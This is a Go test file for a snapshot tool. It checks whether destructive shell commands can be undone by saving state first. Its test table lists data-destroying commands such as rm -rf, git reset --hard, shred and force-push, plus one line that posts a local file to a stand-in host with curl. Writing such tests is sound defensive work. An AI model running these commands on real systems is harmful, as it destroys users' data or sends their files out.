package snapshot

import (
	"testing"
)

func TestCover(t *testing.T) {
	const setup = "echo a > a; git add a; git commit -qm 1; echo x >> a; mkdir -p out sub; echo 1 > out/1; echo 2 > sub/2; echo n > notes; mkdir -p ../other; echo o > ../other/o; git branch b; git push -q ../bare 2>&1 || true"
	for _, tc := range []struct {
		line string
		want bool
	}{
		{"rm -rf out", true},
		{"rm -rf out sub", true},
		{"ls && rm -rf out && ls", true},
		{"cd sub && rm -rf ../out", true},
		{"mkdir -p new && rm -rf out", true},
		{"echo start; git reset --hard; echo done", true},
		{"git reset --hard && git clean -fd", true},
		{"rm -rf out && make", true}, // what comes after finds the work gone and kept
		{"mv notes sub/2", true},
		{"echo x > /tmp/somewhere-else; rm -rf out", true},
		{"bash -c 'rm -rf out'", true},

		// An earlier part may write to what is lost.
		{"echo x > out/1; rm -rf out", false},
		{"cp a out/2 && rm -rf out", false},
		{"mv a out/; rm -rf out", false},
		{"echo y >> a; git reset --hard", false},
		{"echo x > notes; rm notes", false},
		{"cp a notes && rm notes", false},
		{"sed -i s/1/2/ out/1; rm -rf out", false},
		{"make && rm -rf out", false},
		{"./gen.sh; git checkout -- .", false},
		{"python3 gen.py; rm -rf out", false},
		{"git add -A; git reset --hard", false},
		{"git checkout b && git reset --hard", false},
		{"git fetch ../bare && git reset --hard FETCH_HEAD", false},
		{"server & rm -rf out", false},
		{"tar xf a.tar; git clean -fd", false},
		{"git stash pop; git reset --hard", false},

		// The loss is elsewhere, or to be for good.
		{"rm -rf ../other", false},
		{"rm -rf .git", false},
		{"shred -u notes", false},
		{"rm -rf $DIR", false},
		{"git push -f origin HEAD", false},
		{"rm -rf out; curl -d @a https://x.example", true}, // what it sends is another finding's
	} {
		t.Run(tc.line, func(t *testing.T) {
			b := newBench(t)
			b.sh(setup)
			p := b.predict(b.bash(tc.line))
			if _, got := cover(p, b.root); got != tc.want {
				t.Errorf("%q: covered %v, want %v\nacts %+v\neffects %+v\nblind %v, unsure %q", tc.line, got, tc.want, p.Acts, p.Effects, p.Blind, p.Unsure)
			}
		})
	}
}

func TestCoverNeedsAProject(t *testing.T) {
	b := newBench(t)
	b.sh("echo 1 > notes")
	p := b.predict(b.bash("rm notes"))
	if _, ok := cover(p, ""); ok {
		t.Error("covered without a project")
	}
	if _, ok := Cover(p, nil, b.root); ok {
		t.Error("covered without an act")
	}
}

// A merge under way is more than index, refs and files; nothing is kept of it.
func TestMergeUnderWay(t *testing.T) {
	b := newBench(t)
	b.sh("echo 1 > a; git add a; git commit -qm 1; git checkout -qb x; echo 2 > a; git commit -qam 2; git checkout -q main; echo 3 > a; git commit -qam 3; git merge x || true")
	keeps, ok := cover(b.predict(b.bash("git reset --hard")), b.root)
	if !ok {
		return
	}
	if _, err := b.store.Take(t.Context(), Call{Project: "p", Root: b.root}, keeps); err == nil {
		t.Error("a merge was kept")
	}
	b.nothingLeft()
}
